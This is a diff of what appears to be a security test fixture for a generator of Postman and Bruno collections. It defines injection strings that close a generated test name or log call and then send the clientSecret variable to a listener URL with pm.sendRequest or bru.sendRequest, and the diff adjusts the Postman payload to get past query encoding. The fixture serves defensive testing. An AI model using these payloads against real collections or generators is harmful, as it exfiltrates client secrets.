@@ -13,7 +13,8 @@ export const HOSTILE = 'it\'s "quoted" `ticked` ${globalThis.injected = 1} </scr
 export function attacks(listener: string): { postman: string; bruno: string } {
   return {
     // Inside `pm.test('every ... = <equals>', () => {`: closes the name and the call, then sends.
-    postman: `x', () => {}); pm.sendRequest('${listener}/postman?' + pm.variables.get('clientSecret'), () => {}); pm.test('y`,
+    // (No `+`: Postman sends it unencoded in a query value, and a server reads it as a space.)
+    postman: `x', () => {}); pm.sendRequest('${listener}/postman?'.concat(pm.variables.get('clientSecret')), () => {}); pm.test('y`,
     // Inside `console.log("Skipping <name>: ...")` within an if block: closes both, then sends.
     bruno: `x"); } await bru.sendRequest({ method: 'GET', url: '${listener}/bruno?' + bru.getEnvVar('clientSecret') }); { //`,
   };
